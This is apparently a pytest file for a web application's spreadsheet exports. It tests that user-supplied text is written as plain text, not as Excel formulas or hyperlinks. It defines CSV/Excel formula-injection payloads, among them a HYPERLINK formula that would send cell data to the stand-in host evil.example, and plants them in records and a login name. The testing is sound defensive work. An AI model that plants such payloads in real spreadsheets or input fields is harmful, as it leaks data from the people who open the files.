"""Excel formula injection (issue 17.1): user text written into any workbook arrives as text — never a
live formula or hyperlink — in list exports, export jobs, project attendees, supervision, error reports and
import templates. Each workbook is read back with openpyxl, which reports formulas as data_type "f"."""
from __future__ import annotations

import datetime
import io
import pathlib
import re

import openpyxl
import pytest

from tests.credit_helpers import credit

FORMULA = '=HYPERLINK("http://evil.example/?x="&B2,"详情")'
SUM = "=2*3+SUM(1,1)"
LINK = "http://evil.example/a"
PAYLOADS = (FORMULA, SUM, "=1+1", "+1+1", "-1+1", "@SUM(1,1)", LINK)


def _check(data: bytes) -> list[str]:
    """Every cell's text of every sheet; fails on any formula cell or hyperlink."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    texts = []
    for sheet in book.worksheets:
        assert not sheet._hyperlinks, f"hyperlink in {sheet.title}"
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"formula {cell.value!r} at {sheet.title}!{cell.coordinate}"
                if cell.value is not None:
                    texts.append(str(cell.value))
    return texts


def test_write_xlsx_keeps_every_payload_as_text(tmp_path):
    from app.services.exports import write_xlsx

    path = tmp_path / "x.xlsx"
    write_xlsx(str(path), ["A"], [[p] for p in PAYLOADS] + [["0123"]])
    texts = _check(path.read_bytes())
    assert texts[1:] == list(PAYLOADS) + ["0123"]  # "0123" stays text, leading zero kept


def test_no_module_opens_an_xlsxwriter_workbook_of_its_own():
    """One place: every writer goes through services/exports.workbook (the safe options)."""
    root = pathlib.Path(__file__).resolve().parents[2] / "app"
    offenders = [str(p.relative_to(root)) for p in root.rglob("*.py")
                 if p.name != "exports.py" and re.search(r"xlsxwriter\.Workbook\(|import xlsxwriter|from xlsxwriter",
                                                         p.read_text(encoding="utf-8"))]
    assert offenders == []


@pytest.fixture
def poisoned(app, world):
    """Formula text in the rows every list export reads: persons, units, catalogue, projects, credits,
    login log (a login attempt as "=7+8"), operation log."""
    from app.extensions import db
    from app.models import Org, Person
    from tests.projects.helpers import make_project

    with app.app_context():
        person = db.session.get(Person, world.pa)
        person.name, person.specialty = FORMULA, SUM
        unit = db.session.get(Org, world.a)
        unit.address, unit.contact = SUM, LINK
        dept = db.session.get(Org, world.a_dept)
        dept.address = FORMULA
        project = make_project(world.a)
        project.name, project.catalog.name = FORMULA, SUM
        credit(world.pa, 2, datetime.date(2025, 3, 1), content=SUM, remark=FORMULA)
        db.session.commit()
        pid = project.id
    client = app.test_client()
    client.post("/login/", data={"username": "=7+8", "password": "x"})
    return pid


def _list_export_urls(app) -> list[str]:
    return sorted(str(r) for r in app.url_map.iter_rules()
                  if str(r).endswith("/export/") and "<" not in str(r))


def test_every_list_export_round_trips_without_formulas(app, world, poisoned, login):
    c = login("city")
    urls = _list_export_urls(app)
    assert {"/persons/export/", "/credits/export/", "/institutionview/export/", "/loginlog/export/"} <= set(urls)
    seen: set[str] = set()
    for url in urls:
        r = c.get(url)
        if r.status_code in (403, 404):
            continue
        assert r.status_code == 200 and r.mimetype.endswith("spreadsheetml.sheet"), url
        seen.update(_check(r.data))
    # The payloads did reach the files (as text): person name, credit content, unit address, login name.
    assert {FORMULA, SUM, LINK, "=7+8"} <= seen


def test_export_job_writes_text_too(app, world, poisoned, login):
    saved = app.config["EXPORT_INLINE_MAX"]
    app.config["EXPORT_INLINE_MAX"] = 0
    try:
        c = login("city")
        html = c.get("/persons/export/").get_data(as_text=True)
        job_id = re.search(r'data-status-url="/jobs/([0-9a-f]+)/status"', html).group(1)
        r = c.get(f"/jobs/{job_id}/download")
        assert r.status_code == 200
        assert FORMULA in _check(r.data)
    finally:
        app.config["EXPORT_INLINE_MAX"] = saved


def test_project_attendees_and_supervision_exports(app, world, poisoned, login):
    c = login("city")
    r = c.get(f"/projects/attendees/{poisoned}.xlsx")
    assert r.status_code == 200
    _check(r.data)
    r = c.get("/supervision/export")
    assert r.status_code == 200
    _check(r.data)


def test_error_report_of_an_import_keeps_text(tmp_path):
    from app.services.people_import import RowError, error_report

    path = tmp_path / "errors.xlsx"
    error_report(str(path), [RowError(2, FORMULA, SUM)])
    assert {FORMULA, SUM} <= set(_check(path.read_bytes()))


def test_templates_have_no_formulas():
    from app.services import catalog_import, sheets

    _check(catalog_import.template_workbook().getvalue())
    _check(sheets.template("x", ["=A"], ["=B"], width=10).getvalue())

